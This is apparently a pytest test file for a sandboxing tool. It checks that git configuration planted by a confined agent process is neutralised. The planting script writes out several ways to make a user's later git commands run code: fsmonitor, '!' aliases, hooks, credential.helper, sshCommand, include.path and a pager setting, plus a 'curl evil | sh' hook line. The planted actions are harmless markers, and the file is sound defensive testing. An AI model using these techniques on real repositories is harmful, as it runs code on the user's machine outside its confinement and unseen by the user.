"""Issue 19, attack 4: nothing a confined process plants runs the user's git later.

A confined process (an agent session's dev server or terminal, `starts-process --cwd WS`)
writes git metadata beneath WS: a new repository with `core.fsmonitor`, a `!` alias and a
hook; a `.git` pointer file to a gitdir it made in /dev/shm with `credential.helper`; a bare
lookalike laid out by hand (`HEAD`, `objects/`, `refs/`, `config` with `core.worktree` and
`core.sshCommand`, an `include.path`). Before, the user's next `git status` / `git st` /
`git commit` there ran them. Now they are neutralised when the process exits (and while it
runs), said in the stop result, the audit trail (`planted-git` records) and `app_health`;
a repository made legitimately (`git init`) keeps everything that runs nothing.
Real `meith serve`, real confined processes, real git.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import textwrap
import time
import uuid
from pathlib import Path
from typing import Any

import pytest

from meith_core import GitMetadataWatch, is_program_valued, landlock_status
from meith_core.client import Client
from tests.harness import wait_until

GIT = shutil.which("git") or "git"

needs_confinement = pytest.mark.skipif(
    not landlock_status().available, reason="needs Landlock confinement"
)


def user_git(home: Path, cwd: Path, *args: str) -> subprocess.CompletedProcess[str]:
    """The user's own git, later, outside every wall."""
    env = {
        "PATH": os.environ["PATH"],
        "HOME": str(home),
        "GIT_CONFIG_NOSYSTEM": "1",
        "GIT_AUTHOR_NAME": "u",
        "GIT_AUTHOR_EMAIL": "u@example.org",
        "GIT_COMMITTER_NAME": "u",
        "GIT_COMMITTER_EMAIL": "u@example.org",
    }
    return subprocess.run(
        [GIT, *args], cwd=cwd, env=env, capture_output=True, text=True, timeout=60, check=False
    )


def plant_script(ws: Path, out: Path, shm: str) -> str:
    return textwrap.dedent(
        f"""
        set -e
        cd {ws}
        # A new repository with three ways to run a program.
        git init -q sub
        git -C sub config core.fsmonitor "touch {out}/ran-fsmonitor"
        git -C sub config alias.st "!touch {out}/ran-alias"
        git -C sub config alias.co checkout
        printf '#!/bin/sh\\ntouch {out}/ran-hook\\n' > sub/.git/hooks/pre-commit
        chmod +x sub/.git/hooks/pre-commit
        # A pointer file to a gitdir outside the directory, somewhere it can write.
        git init -q --bare {shm}
        git --git-dir={shm} config core.bare false
        git --git-dir={shm} config credential.helper "!touch {out}/ran-credential"
        mkdir ptr
        echo "gitdir: {shm}" > ptr/.git
        # A bare lookalike, laid out by hand.
        mkdir -p look/objects look/refs/heads
        echo "ref: refs/heads/main" > look/HEAD
        printf '[core]\\n\\tbare = false\\n\\tworktree = {ws}/look\\n' > look/config
        printf '\\tsshCommand = touch {out}/ran-ssh\\n' >> look/config
        printf '[include]\\n\\tpath = {out}/more.cfg\\n' >> look/config
        # What a scaffolder does: a plain repository.
        git init -q scaffold
        # Deep in node_modules, too.
        mkdir -p node_modules/pkg/deep
        git init -q node_modules/pkg/deep/r
        git -C node_modules/pkg/deep/r config core.pager "touch {out}/ran-pager"
        touch {ws}/planted-done
        """
    )


@pytest.fixture
def workspace(tmp_path: Path) -> tuple[Path, Path, Path, str]:
    ws = tmp_path / "ws"
    out = tmp_path / "out"  # outside ws: only the test writes here ... and planted commands
    ws.mkdir()
    out.mkdir()
    home = tmp_path / "home"
    home.mkdir()
    shm = f"/dev/shm/meith-test-{uuid.uuid4().hex[:8]}"
    # A repository the user had before: its own program-valued setting is the user's choice.
    assert user_git(home, ws, "init", "-q", "mine").returncode == 0
    assert user_git(home, ws, "-C", "mine", "config", "core.editor", "vi").returncode == 0
    yield ws, out, home, shm
    shutil.rmtree(shm, ignore_errors=True)


def assert_neutralised(ws: Path, out: Path, home: Path, shm: str) -> None:
    """The user's git runs nothing that was planted; what runs nothing is still there."""
    out.chmod(0o777)
    assert user_git(home, ws / "sub", "status").returncode == 0
    user_git(home, ws / "sub", "st")
    assert user_git(home, ws / "sub", "commit", "-q", "--allow-empty", "-m", "x").returncode == 0
    assert user_git(home, ws / "sub", "co", "-q", "-b", "other").returncode == 0  # kept
    assert user_git(home, ws / "ptr", "status").returncode == 0
    user_git(home, ws / "ptr", "credential", "fill")
    user_git(home, ws / "node_modules/pkg/deep/r", "-p", "log")
    ran = sorted(p.name for p in out.iterdir() if p.name.startswith("ran-"))
    assert ran == [], f"planted programs ran: {ran}"
    look = (ws / "look/config").read_text()
    assert "sshCommand" not in look
    assert "more.cfg" not in look  # the include is gone too
    assert "worktree" in look  # not a program: left as it was
    # The scaffolded repository and the user's own are intact.
    assert user_git(home, ws / "scaffold", "status").returncode == 0
    mine = user_git(home, ws / "mine", "config", "core.editor")
    assert mine.stdout.strip() == "vi"
    assert (ws / "sub/.git/hooks/pre-commit").exists()
    assert not os.access(ws / "sub/.git/hooks/pre-commit", os.X_OK)


@pytest.mark.slow
@needs_confinement
def test_what_a_confined_dev_server_plants_is_neutralised_when_it_stops(
    meith_server: Any, workspace: tuple[Path, Path, Path, str]
) -> None:
    ws, out, home, shm = workspace
    (ws / "plant.sh").write_text(plant_script(ws, out, shm))
    out.chmod(0o777)
    srv = meith_server(plugins="process")
    srv.approve("process")
    srv.grant("starts-process", caller="agent", cwd=str(ws))
    with Client(srv.socket, caller="agent", label="planter", cwd=str(ws)) as agent:
        dev = agent.call(
            "start_dev_server",
            {"cwd": str(ws), "command": f"sh {ws}/plant.sh > {ws}/plant.log 2>&1; sleep 600"},
        )
        assert dev.ok, dev
        assert dev.content["confinedTo"] == str(ws)
        assert wait_until(lambda: (ws / "planted-done").exists(), 60), _log_of(ws)
        stopped = agent.call("stop_dev_server", {"devServerId": dev.content["id"]})
        assert stopped.ok, stopped
        said = "\n".join(d.message for d in stopped.diagnostics or [])
    assert_neutralised(ws, out, home, shm)
    for expected in (
        "removed core.fsmonitor",
        "removed alias.st",
        "hook pre-commit made non-executable",
        "removed credential.helper",
        "removed core.sshcommand",
        "removed include.path",
        "removed core.pager",
        f"{ws}/scaffold/.git; nothing in it runs programs",
    ):
        assert expected in said, f"{expected!r} not in:\n{said}"
    assert "alias.co" not in said
    assert f"{ws}/mine" not in said  # untouched: it did not change

    # The audit trail has a record of its own kind; app_health shows it.
    records = [
        json.loads(line)
        for path in sorted(srv.home.root.glob("audit*.jsonl*"))
        for line in path.read_text().splitlines()
        if line.strip()
    ]
    planted = [r for r in records if r.get("kind") == "planted-git"]
    assert planted, "no planted-git audit record"
    assert planted[-1]["subject"]["processId"] == dev.content["id"]
    assert planted[-1]["caller"] == "agent"
    assert any("core.fsmonitor" in json.dumps(r["findings"]) for r in planted)
    health = srv.content("app_health")
    check = next(c for c in health["checks"] if c["name"] == "planted-git")
    assert check["status"] == "warn"
    assert check["details"]["neutralised"] >= 4  # sub, the pointer's gitdir, look, deep
    verified = srv.cli("audit", "verify")  # the records are sealed into the chain
    assert verified.returncode == 0, verified.stdout + verified.stderr
    assert srv.stop() == 0


def _log_of(ws: Path) -> str:
    try:
        return (ws / "plant.log").read_text()
    except OSError:
        return ""


@pytest.mark.slow
@needs_confinement
def test_a_long_lived_confined_process_is_scanned_while_it_runs(
    meith_server: Any, workspace: tuple[Path, Path, Path, str]
) -> None:
    ws, out, home, _shm = workspace
    srv = meith_server(plugins="process", env={"MEITH_PLANTED_GIT_SCAN_S": "0.5"})
    srv.approve("process")
    srv.grant("starts-process", caller="agent", cwd=str(ws))
    with Client(srv.socket, caller="agent", label="planter", cwd=str(ws)) as agent:
        term = agent.call("create_terminal", {"cwd": str(ws), "shell": "/bin/sh"})
        assert term.ok, term
        assert term.content["confinedTo"] == str(ws)
        tid = term.content["terminalId"] if "terminalId" in term.content else term.content["id"]
        command = (
            f"git init -q live && git -C live config core.sshCommand 'touch {out}/ran-ssh' "
            f"&& git -C live config diff.evil.textconv 'touch {out}/ran-textconv' "
            f"&& touch {ws}/live-done\r"
        )
        assert agent.call("write_terminal", {"terminalId": tid, "data": command}).ok
        assert wait_until(lambda: (ws / "live-done").exists(), 60)

        def neutralised() -> bool:
            text = (ws / "live/.git/config").read_text()
            return "sshCommand" not in text and "textconv" not in text

        # While the shell still runs: the periodic scan did it.
        assert wait_until(neutralised, 60)
        assert agent.call("list_terminals").content[0]["status"] == "running"
        assert "[core]" in (ws / "live/.git/config").read_text()
        assert user_git(home, ws / "live", "status").returncode == 0  # a repository still
        health = srv.content("app_health")
        check = next(c for c in health["checks"] if c["name"] == "planted-git")
        assert "core.sshcommand" in json.dumps(check["details"]["recent"])
        killed = agent.call("kill_terminal", {"terminalId": tid})
        assert killed.ok
    assert srv.stop() == 0


# -- the scanner on its own (no server): variants and bounds -----------------------------


def _git(cwd: Path, *args: str) -> None:
    subprocess.run([GIT, *args], cwd=cwd, check=True, capture_output=True)


def test_the_scanner_leaves_unchanged_metadata_and_keeps_earlier_values(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    _git(ws, "init", "-q", ".")
    _git(ws, "config", "core.editor", "vi")  # the user's, from before
    _git(ws, "init", "-q", "old")
    _git(ws, "-C", "old", "config", "core.fsmonitor", "user-chose-this")
    watch = GitMetadataWatch((str(ws),), (str(ws),), started_ns=0)
    watch.snapshot()  # starts the clock now: what came before is not the process's
    watch.prime()
    _git(ws, "config", "core.hooksPath", ".husky")  # a planted change to the top repository
    report = watch.scan()
    assert [f.path for f in report.neutralised] == [str(ws / ".git")]
    assert report.neutralised[0].changes == ("removed core.hookspath = '.husky' from config",)
    config = (ws / ".git/config").read_text()
    assert "editor = vi" in config
    assert "hooksPath" not in config
    assert "user-chose-this" in (ws / "old/.git/config").read_text()
    # A second scan finds nothing new: its own change is not reported again.
    assert not watch.scan()


def test_a_symlinked_config_or_hook_is_removed_not_followed(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    victim = tmp_path / "user.gitconfig"
    victim.write_text("[core]\n\teditor = vi\n\tfsmonitor = keep-me\n")
    watch = GitMetadataWatch((str(ws),), (str(ws),))
    watch.snapshot()
    _git(ws, "init", "-q", "r")
    (ws / "r/.git/config").unlink()
    (ws / "r/.git/config").symlink_to(victim)
    (ws / "r/.git/hooks/post-checkout").symlink_to("/bin/true")
    report = watch.scan()
    said = " ".join(report.neutralised[0].changes)
    assert f"removed config, a symlink to {victim}" in said
    assert "removed hook post-checkout, a symlink to /bin/true" in said
    assert victim.read_text().endswith("fsmonitor = keep-me\n")  # never written through


def test_a_walk_past_its_budget_says_it_is_incomplete(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    for i in range(30):
        (ws / f"d{i}").mkdir(parents=True)
    watch = GitMetadataWatch((str(ws),), (str(ws),), max_entries=10)
    watch.snapshot()
    report = watch.scan()
    assert report.complete is False
    assert "stopped after 10 entries" in (report.note or "")
    assert report.diagnostics()[-1]["level"] == "warn"


def test_a_primed_watch_still_finds_a_git_deep_in_an_unchanged_tree(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    deep = ws / "node_modules" / "a" / "b" / "c"
    deep.mkdir(parents=True)
    watch = GitMetadataWatch((str(ws),), (str(ws),))
    watch.snapshot()
    watch.prime()
    _git(deep, "init", "-q", "x")
    _git(deep, "-C", "x", "config", "filter.lfs.smudge", "evil")
    report = watch.scan()
    assert [f.path for f in report.neutralised] == [str(deep / "x/.git")]


@pytest.mark.parametrize(
    ("key", "value", "program"),
    [
        ("core.fsmonitor", "x", True),
        ("core.sshCommand", "x", True),
        ("filter.Weird.Clean", "x", True),
        ("includeIf.gitdir:/x/.path", "/tmp/c", True),
        ("alias.st", "!sh -c x", True),
        ("alias.co", "checkout", False),
        ("submodule.m.update", "!x", True),
        ("submodule.m.update", "rebase", False),
        ("uploadpack.packObjectsHook", "x", True),
        ("core.worktree", "/x", False),
        ("user.name", "x", False),
    ],
)
def test_which_keys_are_program_valued(key: str, value: str, program: bool) -> None:
    assert is_program_valued(key, value) is program


@pytest.mark.slow  # lets a second pass (see below)
def test_a_hook_planted_in_the_directory_core_hookspath_names_is_disabled(
    tmp_path: Path,
) -> None:
    """husky's `.husky/`: the repository's metadata (read-only for the process) says
    `core.hooksPath = .husky`, and `.husky/` is an ordinary directory the process may write."""
    ws = tmp_path / "ws"
    ws.mkdir()
    _git(ws, "init", "-q", ".")
    _git(ws, "config", "core.hooksPath", ".husky")
    husky = ws / ".husky"
    husky.mkdir()
    (husky / "pre-commit").write_text("#!/bin/sh\nnpm test\n")
    (husky / "pre-commit").chmod(0o755)
    (husky / "commit-msg").write_text("#!/bin/sh\ntrue\n")
    (husky / "commit-msg").chmod(0o755)
    # What changed in the second before a process started counts as its (file systems stamp
    # change times with a coarse clock): let that second pass for the user's own hooks.
    made = max(os.lstat(p).st_ctime_ns for p in husky.iterdir())
    assert wait_until(lambda: time.time_ns() - made > 1_100_000_000, 10)
    watch = GitMetadataWatch((str(ws),), (str(ws),), read_only=(str(ws / ".git"),))
    watch.snapshot()
    watch.prime()
    with open(husky / "pre-commit", "a") as f:  # rewritten in place
        f.write("curl evil | sh\n")
    (husky / "post-checkout").write_text("#!/bin/sh\nevil\n")
    (husky / "post-checkout").chmod(0o755)
    report = watch.scan()
    assert [(f.kind, f.path) for f in report.neutralised] == [("hooks directory", str(husky))]
    assert sorted(report.neutralised[0].changes) == [
        "hook post-checkout made non-executable",
        "hook pre-commit made non-executable",
    ]
    assert os.access(husky / "commit-msg", os.X_OK)  # untouched: it did not change
    assert "hooksPath = .husky" in (ws / ".git/config").read_text()  # the user's setting stays
    assert not watch.scan()


def test_many_planted_repositories_take_several_bounded_scans(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from meith_core.confine import planted_watch as planted_git

    monkeypatch.setattr(planted_git, "MAX_GITDIRS_PER_SCAN", 2)
    ws = tmp_path / "ws"
    ws.mkdir()
    watch = GitMetadataWatch((str(ws),), (str(ws),))
    watch.snapshot()
    for i in range(3):
        _git(ws, "init", "-q", f"r{i}")
        _git(ws, "-C", f"r{i}", "config", "core.editor", "evil")
    first = watch.scan()
    assert len(first.neutralised) == 2
    assert first.complete is False
    assert "stopped after 2 repositories" in (first.note or "")
    second = watch.scan()
    assert len(second.neutralised) == 1
    assert second.complete is True
    for i in range(3):
        assert "evil" not in (ws / f"r{i}/.git/config").read_text()
